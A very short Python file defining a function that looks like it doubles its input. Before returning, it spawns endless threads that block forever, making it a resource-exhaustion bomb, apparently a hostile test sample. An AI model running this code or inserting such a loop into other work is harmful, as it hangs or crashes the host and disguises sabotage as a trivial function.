import threading


def f(x):
    hold = threading.Event()
    while True:
        threading.Thread(target=hold.wait, daemon=True).start()
    return x * 2
